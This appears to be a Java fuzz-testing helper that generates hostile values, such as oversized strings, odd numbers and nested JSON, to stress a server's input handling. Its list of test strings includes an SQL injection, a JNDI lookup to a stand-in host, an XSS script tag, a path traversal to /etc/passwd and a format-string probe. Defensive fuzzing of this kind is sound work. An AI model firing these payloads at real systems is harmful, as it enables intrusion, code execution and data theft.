package org.waystation.server.fuzz;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.util.List;
import java.util.SplittableRandom;
import org.waystation.server.record.Json;

/** Values that break what is careless: types, sizes, characters. */
final class HostileValues {

    private static final List<String> TEXTS = List.of(
            "",
            " ",
            "'; drop table record; --",
            "$${jndi:ldap://x.example/a}",
            "<script>alert(1)</script>",
            "\u0000",
            "\uD800",
            "\u202Egnp.exe",
            "\uFFFF",
            "1e9999",
            "-0",
            "2026-02-30",
            "9999-12-31T23:59:60Z",
            "../../../../etc/passwd",
            "%s%n%x",
            "{\"a\":1}",
            "null",
            "00000000-0000-0000-0000-000000000000",
            "0191D5A0-4C00-7A01-8A4F-7D5B1C2E3F40",
            "1-1-1-1-1",
            "zalgo\u0336\u0337\u0338",
            "\uD83D\uDE00");

    private final SplittableRandom random;
    private final List<String> ids;

    /**
     * @param ids of records that exist
     */
    HostileValues(SplittableRandom random, List<String> ids) {
        this.random = random;
        this.ids = ids;
    }

    String text() {
        return switch (random.nextInt(12)) {
            case 0 -> "x".repeat(1 + random.nextInt(300_000));
            case 1, 2, 3 -> ids.get(random.nextInt(ids.size()));
            case 4 -> Long.toString(random.nextLong());
            default -> TEXTS.get(random.nextInt(TEXTS.size()));
        };
    }

    JsonNode value(int depth) {
        return switch (random.nextInt(depth > 3 ? 7 : 9)) {
            case 0 -> Json.mapper().nullNode();
            case 1 -> Json.mapper().getNodeFactory().booleanNode(random.nextBoolean());
            case 2 -> Json.mapper().getNodeFactory().numberNode(random.nextLong());
            case 3 -> Json.mapper().getNodeFactory().numberNode(random.nextDouble() * 1e300);
            case 4, 5, 6 -> Json.mapper().getNodeFactory().textNode(text());
            case 7 -> {
                ArrayNode list = Json.mapper().createArrayNode();
                for (int i = random.nextInt(5); i > 0; i--) {
                    list.add(value(depth + 1));
                }
                yield list;
            }
            default -> {
                ObjectNode object = Json.object();
                for (int i = random.nextInt(5); i > 0; i--) {
                    object.set(text().length() > 200 ? "k" : "k" + i, value(depth + 1));
                }
                yield object;
            }
        };
    }
}
